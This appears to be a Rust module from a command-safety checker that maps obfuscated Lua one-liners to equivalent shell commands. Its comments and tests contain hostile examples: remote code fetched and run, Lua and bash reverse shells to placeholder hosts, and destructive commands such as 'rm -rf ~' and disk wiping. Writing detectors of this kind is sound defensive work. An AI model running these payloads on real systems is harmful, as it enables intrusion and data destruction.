//! Lua one-liners (`lua -e CODE`) read by their effects, after folding `..` concatenation of
//! constants, `os.getenv("HOME")` (`~`), `string.char(…)`, `string.reverse`/`:reverse()` and
//! variables assigned once:
//! - `os.remove(P)` → `rm -f -- P`; `os.execute(C)` / `io.popen(C)` → `C`;
//! - a shell opened for writing (`io.popen("sh", "w")`) and written to runs what is written;
//! - code received and run — `load`/`loadstring`/`dofile` of what a `curl`/`wget` popen or an
//!   HTTP request returned — is `curl -s URL | sh`;
//! - a socket that connects and runs what it receives (`io.popen(t:receive())`) is a reverse
//!   shell, `bash -i >& /dev/tcp/HOST/PORT 0>&1`;
//! - an endless loop (`while true do … end` without `break`) that keeps allocating is
//!   `stress-ng --vm 1 --vm-bytes 100%`: memory exhaustion.

use std::collections::HashMap;

use super::langs::{calls, literal, quote, skip_string, split_top};

/// Largest folded string.
const MAX_TEXT: usize = 64 * 1024;
/// Nesting of folded calls.
const MAX_FOLD_DEPTH: usize = 24;
/// Nesting of decoded code read again (`load("…")`).
const MAX_LOAD_DEPTH: usize = 3;

const SHELLS: [&str; 7] = ["sh", "bash", "dash", "zsh", "ksh", "/bin/sh", "/bin/bash"];

/// Lua code → shell commands with the same effects (plain `os.execute("…")` and
/// `io.popen("…")` literals are found by the caller).
pub(crate) fn lua_commands(code: &str) -> Vec<String> {
    lua_at(code, 0)
}

fn lua_at(code: &str, depth: usize) -> Vec<String> {
    let vars = assignments(code);
    let mut out = Vec::new();
    // handles: `local h = io.popen(CMD [, mode])` → (CMD, writes?)
    let mut handles: HashMap<String, (String, bool)> = HashMap::new();
    for (name, rhs) in raw_assignments(code) {
        if let Some(args) = rhs
            .trim()
            .strip_prefix("io.popen(")
            .and_then(|r| r.strip_suffix(')'))
        {
            let args = split_top(args);
            let cmd = args.first().and_then(|a| fold(a, &vars, 0));
            let mode = args.get(1).and_then(|a| literal(a)).unwrap_or("r");
            if let Some(cmd) = cmd {
                handles.insert(name.to_string(), (cmd, mode.contains('w')));
            }
        }
    }
    for (name, args) in calls(code) {
        let first = args.first().map(String::as_str).unwrap_or("");
        let folded = || fold(first, &vars, 0);
        match name.as_str() {
            "os.remove" => {
                if let Some(p) = folded() {
                    out.push(format!("rm -f -- {}", quote(&p)));
                }
            }
            "os.execute" | "io.popen" if literal(first).is_none() => {
                // a command's output run as a command: `os.execute(io.popen(CMD):read("*a"))`,
                // `os.execute(h:read("*a"))` of a popen'd handle
                if let Some(cmd) = output_of(first, &handles, &vars) {
                    out.push(format!("{cmd} | sh"));
                } else if let Some(c) = folded() {
                    out.push(c);
                }
            }
            "load" | "loadstring" | "dofile" | "loadfile" => {
                if let Some(cmd) = received_from(first, &handles, &vars) {
                    out.push(cmd);
                } else if let Some(text) = folded()
                    && name.starts_with("load")
                    && depth < MAX_LOAD_DEPTH
                {
                    out.extend(lua_at(&text, depth + 1));
                }
            }
            _ => {}
        }
    }
    // writes into a shell opened for writing: `h:write("rm -rf …")`
    for (h, (cmd, writes)) in &handles {
        if !*writes || !SHELLS.contains(&cmd.trim()) {
            continue;
        }
        for text in method_args(code, h, "write") {
            if let Some(t) = fold(&text, &vars, 0) {
                out.push(t.trim_end().to_string());
            }
        }
    }
    if let Some(rs) = reverse_shell(code) {
        out.push(rs);
    }
    if allocation_loop(code) {
        out.push("stress-ng --vm 1 --vm-bytes 100%".to_string());
    }
    out
}

/// `load(h:read("*a"))` of a popen'd downloader, or of an HTTP request's body.
fn received_from(
    arg: &str,
    handles: &HashMap<String, (String, bool)>,
    vars: &HashMap<String, Option<String>>,
) -> Option<String> {
    let a = arg.trim();
    for (h, (cmd, writes)) in handles {
        if !*writes && a.starts_with(&format!("{h}:read")) && is_download(cmd) {
            return Some(format!("{cmd} | sh"));
        }
    }
    // `load(http.request(URL))`, `local body = http.request(URL); load(body)`
    let req = if a.contains(".request(") {
        Some(a.to_string())
    } else {
        None
    }
    .or_else(|| {
        raw_assignments_text(vars, a)
            .filter(|r| r.contains(".request("))
            .map(str::to_string)
    });
    let req = req?;
    let open = req.find(".request(")? + ".request(".len();
    let inner = req.get(open..)?.rsplit_once(')')?.0;
    let url = split_top(inner)
        .first()
        .and_then(|u| fold(u, vars, 0))
        .filter(|u| u.starts_with("http"))?;
    Some(format!("curl -s {} | sh", quote(&url)))
}

/// The command whose output `arg` is: `io.popen(CMD):read(…)` or `h:read(…)` of a handle
/// opened for reading.
fn output_of(
    arg: &str,
    handles: &HashMap<String, (String, bool)>,
    vars: &HashMap<String, Option<String>>,
) -> Option<String> {
    let a = arg.trim();
    if let Some(rest) = a.strip_prefix("io.popen(") {
        // the closing parenthesis, outside strings
        let b = rest.as_bytes();
        let mut j = 0;
        let mut depth = 0usize;
        while let Some(&c) = b.get(j) {
            match c {
                b'"' | b'\'' => {
                    j = skip_string(b, j);
                    continue;
                }
                b'(' => depth += 1,
                b')' if depth == 0 => break,
                b')' => depth -= 1,
                _ => {}
            }
            j += 1;
        }
        let inner = rest.get(..j)?;
        let after = rest.get(j + 1..)?;
        if !after.trim_start().starts_with(":read") {
            return None;
        }
        let args = split_top(inner);
        let mode = args.get(1).and_then(|m| literal(m)).unwrap_or("r");
        return fold(args.first()?, vars, 0).filter(|_| !mode.contains('w'));
    }
    handles.iter().find_map(|(h, (cmd, writes))| {
        (!*writes && a.starts_with(&format!("{h}:read"))).then(|| cmd.clone())
    })
}

/// The raw right-hand side recorded for a variable whose value is not a string.
fn raw_assignments_text<'a>(
    vars: &'a HashMap<String, Option<String>>,
    name: &str,
) -> Option<&'a str> {
    // unknown values keep their source text under a `#raw:` key
    vars.get(&format!("#raw:{name}"))?.as_deref()
}

fn is_download(cmd: &str) -> bool {
    let prog = cmd.split_whitespace().next().unwrap_or("");
    matches!(prog, "curl" | "wget" | "fetch" | "aria2c") && cmd.contains("://")
}

/// A socket that connects, then runs what it receives.
fn reverse_shell(code: &str) -> Option<String> {
    let at = code
        .find(":connect(")
        .map(|k| k + ":connect(".len())
        .or_else(|| {
            code.find("socket.connect(")
                .map(|k| k + "socket.connect(".len())
        })?;
    let args = split_top(code.get(at..)?.split_once(')')?.0);
    let host = args.first().and_then(|h| literal(h))?;
    let port = args
        .get(1)
        .map(|p| literal(p).unwrap_or(p.trim()).to_string())?;
    let runs_received = code.contains(":receive(")
        && ["io.popen(", "os.execute("].iter().any(|sink| {
            code.match_indices(sink).any(|(k, _)| {
                let rest = &code[k + sink.len()..];
                !rest.trim_start().starts_with(['"', '\''])
            })
        });
    // or a shell whose streams are the socket's descriptor: `os.execute('/bin/sh -i <&3 >&3')`
    let fd_shell = ["os.execute(", "io.popen("].iter().any(|sink| {
        code.match_indices(sink).any(|(k, _)| {
            let arg = code[k + sink.len()..].split(')').next().unwrap_or("");
            (arg.contains("<&") || arg.contains(">&")) && SHELLS.iter().any(|sh| arg.contains(sh))
        })
    });
    (runs_received || fd_shell).then(|| format!("bash -i >& /dev/tcp/{host}/{port} 0>&1"))
}

/// `while true do … end` / `repeat … until false` without `break`, growing a table or a
/// string on each pass.
fn allocation_loop(code: &str) -> bool {
    let endless = ["while true do", "while 1 do", "repeat"]
        .iter()
        .any(|k| code.contains(k))
        && (!code.contains("repeat") || code.contains("until false"));
    endless
        && !code.contains("break")
        && !code.contains("os.exit")
        && ["[#", "table.insert(", "string.rep(", ":rep("]
            .iter()
            .any(|g| code.contains(g))
}

/// Arguments of `h:method(…)` calls.
fn method_args(code: &str, h: &str, method: &str) -> Vec<String> {
    let needle = format!("{h}:{method}(");
    let b = code.as_bytes();
    let mut out = Vec::new();
    for (k, _) in code.match_indices(&needle) {
        if k > 0 && (b[k - 1].is_ascii_alphanumeric() || b[k - 1] == b'_') {
            continue;
        }
        let open = k + needle.len() - 1;
        if let Some(close) = super::langs::close_paren(b, open)
            && let Some(inner) = code.get(open + 1..close)
        {
            out.extend(split_top(inner));
        }
        if out.len() > 1_000 {
            break;
        }
    }
    out
}

/// `[local] NAME = EXPR` statements: (name, expression text).
fn raw_assignments(code: &str) -> Vec<(&str, &str)> {
    let b = code.as_bytes();
    let mut out = Vec::new();
    let mut i = 0;
    while i < b.len() && out.len() < 1_000 {
        let c = b[i];
        if c == b'"' || c == b'\'' {
            i = skip_string(b, i);
            continue;
        }
        let starts_word = (c.is_ascii_alphabetic() || c == b'_')
            && (i == 0
                || !(b[i - 1].is_ascii_alphanumeric() || matches!(b[i - 1], b'_' | b'.' | b':')));
        if !starts_word {
            i += 1;
            continue;
        }
        let s = i;
        while i < b.len() && (b[i].is_ascii_alphanumeric() || b[i] == b'_') {
            i += 1;
        }
        let name = &code[s..i];
        let mut k = i;
        while k < b.len() && b[k] == b' ' {
            k += 1;
        }
        if b.get(k) == Some(&b'=') && b.get(k + 1) != Some(&b'=') && name != "local" {
            let end = expr_end(b, k + 1);
            out.push((name, code[k + 1..end].trim()));
            i = end;
        }
    }
    out
}

/// End of the expression starting at `i`: operands joined by `..` (strings, calls, names).
fn expr_end(b: &[u8], mut i: usize) -> usize {
    loop {
        while i < b.len() && b[i] == b' ' {
            i += 1;
        }
        // one operand
        match b.get(i) {
            Some(b'"' | b'\'') => i = skip_string(b, i),
            Some(b'(') => i = super::langs::close_paren(b, i).map_or(b.len(), |c| c + 1),
            Some(c) if c.is_ascii_alphanumeric() || *c == b'_' => {
                while i < b.len()
                    && (b[i].is_ascii_alphanumeric()
                        || matches!(b[i], b'_' | b':')
                        || b[i] == b'.' && b.get(i + 1) != Some(&b'.'))
                {
                    i += 1;
                }
                if b.get(i) == Some(&b'(') {
                    i = super::langs::close_paren(b, i).map_or(b.len(), |c| c + 1);
                }
            }
            _ => return i,
        }
        let mut k = i;
        while k < b.len() && b[k] == b' ' {
            k += 1;
        }
        if b.get(k) == Some(&b'.') && b.get(k + 1) == Some(&b'.') {
            i = k + 2;
        } else {
            return i;
        }
    }
}

/// Variables assigned once to a foldable string (others: unknown), and the raw text of
/// non-string right-hand sides under `#raw:NAME`.
fn assignments(code: &str) -> HashMap<String, Option<String>> {
    let mut vars: HashMap<String, Option<String>> = HashMap::new();
    for (name, rhs) in raw_assignments(code) {
        let v = fold(rhs, &vars, 0);
        let seen = vars.contains_key(name);
        vars.insert(name.to_string(), if seen { None } else { v });
        if !seen {
            vars.insert(format!("#raw:{name}"), Some(rhs.to_string()));
        }
    }
    vars
}

/// Fold a Lua string expression.
fn fold(expr: &str, vars: &HashMap<String, Option<String>>, depth: usize) -> Option<String> {
    if depth > MAX_FOLD_DEPTH {
        return None;
    }
    let e = expr.trim();
    let parts = split_concat(e);
    if parts.len() > 1 {
        let mut s = String::new();
        for p in parts {
            s.push_str(&fold(p, vars, depth + 1)?);
            if s.len() > MAX_TEXT {
                return None;
            }
        }
        return Some(s);
    }
    if let Some(s) = literal(e) {
        return Some(s.replace("\\n", "\n").replace("\\t", "\t"));
    }
    if let Some(s) = e.strip_prefix("[[").and_then(|x| x.strip_suffix("]]")) {
        return Some(s.to_string());
    }
    if e.chars().all(|c| c.is_ascii_digit()) && !e.is_empty() {
        return Some(e.to_string());
    }
    if e.chars().all(|c| c.is_ascii_alphanumeric() || c == '_') {
        return vars.get(e).cloned().flatten();
    }
    // `(EXPR):reverse()`, `NAME:reverse()`
    if let Some(recv) = e.strip_suffix(":reverse()") {
        let recv = recv.trim();
        let recv = recv
            .strip_prefix('(')
            .and_then(|r| r.strip_suffix(')'))
            .unwrap_or(recv);
        return Some(fold(recv, vars, depth + 1)?.chars().rev().collect());
    }
    let open = e.find('(')?;
    let inner = e.get(open + 1..)?.strip_suffix(')')?;
    let args = split_top(inner);
    let name = e[..open].trim();
    match name {
        "os.getenv" => match literal(args.first()?)? {
            "HOME" | "USERPROFILE" => Some("~".into()),
            "TMPDIR" | "TEMP" | "TMP" => Some("/tmp".into()),
            _ => None,
        },
        "string.char" => args
            .iter()
            .map(|a| a.trim().parse::<u32>().ok().and_then(char::from_u32))
            .collect(),
        "string.reverse" => Some(
            fold(args.first()?, vars, depth + 1)?
                .chars()
                .rev()
                .collect(),
        ),
        "tostring" | "string.lower" | "string.format" if args.len() == 1 => {
            fold(args.first()?, vars, depth + 1)
        }
        _ => None,
    }
}

/// Split at top-level `..` (outside strings and brackets).
fn split_concat(e: &str) -> Vec<&str> {
    let b = e.as_bytes();
    let mut out = Vec::new();
    let mut depth = 0i32;
    let mut start = 0;
    let mut i = 0;
    while i < b.len() {
        match b[i] {
            b'"' | b'\'' => {
                i = skip_string(b, i);
                continue;
            }
            b'(' | b'[' | b'{' => depth += 1,
            b')' | b']' | b'}' => depth -= 1,
            b'.' if depth == 0 && b.get(i + 1) == Some(&b'.') && b.get(i + 2) != Some(&b'.') => {
                out.push(&e[start..i]);
                start = i + 2;
                i += 2;
                continue;
            }
            _ => {}
        }
        i += 1;
    }
    out.push(&e[start..]);
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn lua_folds_deletions_and_commands() {
        let cases = [
            ("os.remove(\"/etc/motd\")", "rm -f -- /etc/motd"),
            (
                "os.remove(os.getenv(\"HOME\")..\"/.profile\")",
                "rm -f -- ~/.profile",
            ),
            (
                "local p=\"/etc/nginx/nginx.conf\"; os.remove(p)",
                "rm -f -- /etc/nginx/nginx.conf",
            ),
            (
                "local d = \"/srv\" local f = d..\"/app.db\" os.remove(f)",
                "rm -f -- /srv/app.db",
            ),
            ("os.execute(\"rm -rf \"..os.getenv(\"HOME\"))", "rm -rf ~"),
            ("os.execute(string.char(105, 100))", "id"),
            ("os.execute((\"etad\"):reverse())", "date"),
            ("os.execute(string.reverse(\"imaohw\"))", "whoami"),
        ];
        for (code, want) in cases {
            assert_eq!(lua_commands(code), [want], "{code}");
        }
        assert!(lua_commands("print(os.getenv(\"HOME\") .. \"/x\")").is_empty());
        assert!(lua_commands("local f = io.open(\"a.txt\") print(f:read(\"*a\"))").is_empty());
    }

    #[test]
    fn lua_shell_opened_for_writing() {
        for (code, want) in [
            (
                "local p=io.popen(\"bash\",\"w\"); p:write(\"rm -rf /var/log\\n\"); p:close()",
                "rm -rf /var/log",
            ),
            (
                "local sh = io.popen('sh', 'w') sh:write('shutdown -h now') sh:close()",
                "shutdown -h now",
            ),
            (
                "h = io.popen(\"/bin/sh\", \"w\")\nh:write(\"rm -rf \" .. os.getenv(\"HOME\"))",
                "rm -rf ~",
            ),
            (
                "local c = \"dd if=/dev/zero of=/dev/sda\"; local s = io.popen(\"sh\", \"w\"); s:write(c)",
                "dd if=/dev/zero of=/dev/sda",
            ),
            (
                "local x=io.popen(\"zsh\",\"w\") x:write(\"kill -9 -1\")",
                "kill -9 -1",
            ),
        ] {
            assert!(
                lua_commands(code).iter().any(|c| c == want),
                "{code}: {:?}",
                lua_commands(code)
            );
        }
        // writing to a program that is not a shell runs nothing more
        assert!(lua_commands("local p=io.popen(\"sort\",\"w\"); p:write(\"b\\na\\n\")").is_empty());
    }

    #[test]
    fn lua_receive_and_run() {
        for code in [
            "local h=io.popen(\"curl -s https://x.example/a.lua\"); load(h:read(\"*a\"))()",
            "local f = io.popen('wget -qO- https://x.example/a.lua') local s = f:read('*a') loadstring(f:read('*a'))()",
            "local http = require('socket.http') local body = http.request('https://x.example/a.lua') load(body)()",
            "load(require('socket.http').request(\"https://x.example/a.lua\"))()",
            "local u = \"https://x.example/a.lua\" local b = http.request(u) loadstring(b)()",
        ] {
            let out = lua_commands(code);
            assert!(
                out.iter()
                    .any(|c| c.ends_with("| sh") && c.contains("https://x.example/a.lua")),
                "{code}: {out:?}"
            );
        }
        assert_eq!(
            lua_commands("load(\"os.remove('/etc/hosts')\")()"),
            ["rm -f -- /etc/hosts"]
        );
        assert!(lua_commands("local h=io.popen(\"ls\"); print(h:read(\"*a\"))").is_empty());
    }

    #[test]
    fn lua_reverse_shells_and_loops() {
        let rs = "local s=require(\"socket\");local t=s.tcp();t:connect(\"192.0.2.9\",4444);while true do local c=t:receive();local f=io.popen(c);t:send(f:read(\"*a\"));f:close() end";
        assert!(lua_commands(rs).contains(&"bash -i >& /dev/tcp/192.0.2.9/4444 0>&1".to_string()));
        let fd =
            "t=socket.tcp();t:connect('192.0.2.7','4444');os.execute('/bin/sh -i <&3 >&3 2>&3')";
        assert!(
            lua_commands(fd).contains(&"bash -i >& /dev/tcp/192.0.2.7/4444 0>&1".to_string()),
            "{:?}",
            lua_commands(fd)
        );
        let client = "local t=require(\"socket\").tcp(); t:connect(\"localhost\", 80); t:send(\"GET /\\n\"); print(t:receive())";
        assert!(lua_commands(client).is_empty());
        for code in [
            "t={} while true do t[#t+1]=string.rep(\"x\",1e8) end",
            "local a = {} while 1 do table.insert(a, ('y'):rep(2^20)) end",
            "s = {} repeat s[#s + 1] = {} until false",
        ] {
            assert!(
                lua_commands(code)
                    .iter()
                    .any(|c| c.starts_with("stress-ng")),
                "{code}"
            );
        }
        assert!(lua_commands("local t = {} while true do local l = io.read() if not l then break end t[#t+1] = l end").is_empty());
    }
}
